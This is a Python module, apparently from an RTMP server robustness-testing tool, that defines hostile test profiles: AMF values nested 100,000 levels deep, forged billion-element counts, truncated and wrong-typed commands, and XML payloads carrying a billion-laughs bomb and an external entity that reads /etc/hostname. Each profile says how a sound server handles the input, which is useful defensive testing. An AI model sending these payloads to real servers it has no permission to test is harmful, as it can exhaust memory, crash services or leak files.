"""B08 to B11 and B26: values without a floor, counts without data, values that end too early or are of a wrong type."""

from __future__ import annotations

from typing import Any, Final

from flowctl.load.hostile.base import Attack, AttackForm, Run, Script, hostile
from flowctl.load.hostile.octets import CONNECT, cut, u29
from flowctl.load.hostile.peer import Peer
from flowctl.wire.rtmp.amf import amf0
from flowctl.wire.rtmp.amf.values import UNDEFINED, Xml
from flowctl.wire.rtmp.wire import TYPE_COMMAND_AMF0, TYPE_COMMAND_AMF3, TYPE_DATA_AMF0, Message

_LEVELS: Final = 100_000
_CONNECT_LEVELS: Final = 15_000
"""Levels of nesting that fit in 64 KiB, which servers take for a command."""
_MOST_U29: Final = (1 << 29) - 1
_LAUGHS: Final = 9


def _connect(body: bytes, type_id: int = TYPE_COMMAND_AMF0) -> Run:
    return Script(Attack.shaken, cut(type_id, CONNECT + body))


def _metadata(body: bytes) -> Run:
    payload = amf0.encode("@setDataFrame", "onMetaData") + body
    return Script(
        lambda attack: attack.publishing(attack.context.own_name("metadata")),
        lambda _, peer: peer.chunks(Message(5, 0, TYPE_DATA_AMF0, peer.stream_id, payload)),
    )


def _cut_anywhere(attack: Attack, peer: Peer) -> bytes:
    body = amf0.encode("connect", 1.0, peer.connect_object())
    at = attack.context.rng.randrange(1, len(body) - 3)
    attack.context.note(f"connect cut off after {at} of {len(body)} bytes")
    return cut(TYPE_COMMAND_AMF0, body[:at])


def _xml_connect(_: Attack, peer: Peer) -> bytes:
    values = peer.connect_object(pageUrl=Xml(_laughs()), swfUrl=Xml(_ENTITY))
    return cut(TYPE_COMMAND_AMF0, amf0.encode("connect", 1.0, values))


def _calls(name: str, *arguments: Any) -> Run:
    async def run(attack: Attack) -> None:
        peer = await attack.connected()
        stream_id = await peer.create_stream()
        await peer.command(name, *arguments, stream_id=stream_id)

    return run


async def _truncated_publish(attack: Attack) -> None:
    peer = await attack.connected()
    stream_id = await peer.create_stream()
    body = amf0.encode("publish", 3.0, None, "a-name-that-ends-early")
    await peer.send(Message(5, 0, TYPE_COMMAND_AMF0, stream_id, body[:-9]))


_ENTITY: Final = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY file SYSTEM "file:///etc/hostname">'
    '<!ENTITY % more SYSTEM "http://127.0.0.1:9/more.dtd"> %more;]><x>&file;</x>'
)


def _laughs() -> str:
    """Return the billion laughs: entities that each are ten of the one before."""
    lines = ['<!ENTITY l0 "ha">']
    lines += [f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, _LAUGHS + 1)]
    return f'<?xml version="1.0"?><!DOCTYPE x [{"".join(lines)}]><x>&l{_LAUGHS};</x>'


# AMF0: an object whose only member "a" is an object, and so on; a strict array of one strict array.
_NESTED_OBJECT: Final = b"\x03\x00\x01a"
_NESTED_ARRAY: Final = b"\x0a\x00\x00\x00\x01"
# AMF3: a dense array of one array, no named members.
_NESTED_AMF3: Final = b"\x09\x03\x01"
_COUNT: Final = b"\xff\xff\xff\xff"
# AMF3 counts have their lowest bit set: it says that the value is here, and not a reference.
_U29_COUNT: Final = u29(_MOST_U29)

PROFILES: Final = (
    hostile(
        "B08 nesting-bomb",
        "sends AMF0 and AMF3 values nested up to 100,000 levels deep",
        "Decoders that call themselves run out of stack. In a connect (AMF0 and AMF3, as deep as 64 KiB "
        "allow), in a longer connect, and in metadata. Sound servers limit the depth.",
        AttackForm(name="connect", run=_connect(_NESTED_OBJECT * _CONNECT_LEVELS)),
        AttackForm(name="long-connect", run=_connect(_NESTED_OBJECT * _LEVELS)),
        AttackForm(name="amf3", run=_connect(b"\x11" + _NESTED_AMF3 * _CONNECT_LEVELS)),
        AttackForm(name="metadata", run=_metadata(_NESTED_ARRAY * _LEVELS)),
    ),
    hostile(
        "B09 false-counts",
        "announces billions of AMF values and sends none",
        "Array, ECMA array, long string (AMF0), array, vectors, dictionary, string and traits (AMF3). A "
        "decoder that makes room for the count runs out of memory. Sound servers compare it with the bytes there are.",
        AttackForm(name="array", run=_connect(b"\x0a" + _COUNT + bytes(64))),
        AttackForm(name="ecma-array", run=_connect(b"\x08" + _COUNT + b"\x00\x00\x09")),
        AttackForm(name="long-string", run=_connect(b"\x0c" + _COUNT + bytes(64))),
        AttackForm(name="amf3-array", run=_connect(b"\x11\x09" + _U29_COUNT + b"\x01" + bytes(64))),
        AttackForm(name="int-vector", run=_connect(b"\x11\x0d" + _U29_COUNT + bytes(64))),
        AttackForm(name="object-vector", run=_connect(b"\x11\x10" + _U29_COUNT + b"\x00\x01" + bytes(64))),
        AttackForm(name="dictionary", run=_connect(b"\x11\x11" + _U29_COUNT + bytes(64))),
        AttackForm(name="amf3-string", run=_connect(b"\x11\x06" + _U29_COUNT + bytes(64))),
        AttackForm(name="traits", run=_connect(b"\x11\x0a" + u29(_MOST_U29 & ~0xC | 0x3) + b"\x01" + bytes(64))),
        AttackForm(name="type-17", run=_connect(b"\x11\x09" + _U29_COUNT + b"\x01" + bytes(64), TYPE_COMMAND_AMF3)),
    ),
    hostile(
        "B10 truncated-amf",
        "cuts off the values of connect, publish and metadata",
        "A decoder that does not look where the data ends reads what is behind it, or raises what nobody "
        "catches. Sound servers refuse such a command, and pass on or drop such metadata.",
        AttackForm(name="connect", run=_connect(b"\x03\x00\x03app\x02\x00\x40live")),
        AttackForm(name="anywhere", run=Script(Attack.shaken, _cut_anywhere)),
        AttackForm(name="publish", run=_truncated_publish),
        AttackForm(name="metadata", run=_metadata(b"\x08\x00\x00\x00\x02\x00\x05width\x00\x40\x84")),
    ),
    hostile(
        "B11 wrong-types",
        "sends numbers, false, null and objects where names belong",
        "publish(false), publish of a number, of an object, of nothing; play(null); a connect whose app is "
        "false; a deleteStream of a text; a connect that is all undefined. One of these ended the whole process of a "
        "known server. Sound servers refuse each, or take it for what clients mean by it.",
        AttackForm(name="publish-false", run=_calls("publish", None, False)),
        AttackForm(name="publish-number", run=_calls("publish", None, 4711.0, "live")),
        AttackForm(name="publish-object", run=_calls("publish", None, {"name": "x"}, ["live"])),
        AttackForm(name="publish-nothing", run=_calls("publish")),
        AttackForm(name="play-null", run=_calls("play", None, None)),
        AttackForm(name="play-array", run=_calls("play", None, ["x"], "now", "then", {})),
        AttackForm(name="delete-text", run=_calls("deleteStream", None, "all")),
        AttackForm(name="connect-app", run=_connect(amf0.encode({"app": False, "tcUrl": 1.0, "flashVer": None}))),
        AttackForm(name="connect-undefined", run=_connect(amf0.encode(UNDEFINED, UNDEFINED))),
    ),
    hostile(
        "B26 xml-entity",
        "sends AMF XML documents with entities",
        "The billion laughs, an entity that names a file and one that names an address, as XML documents "
        "in connect and in metadata. A server that parses XML takes gigabytes, reads files or opens connections. Sound "
        "servers keep it as text.",
        AttackForm(name="connect", run=Script(Attack.shaken, _xml_connect)),
        AttackForm(name="metadata", run=_metadata(amf0.encode({"xmp": Xml(_laughs()), "liveXML": Xml(_ENTITY)}))),
    ),
)
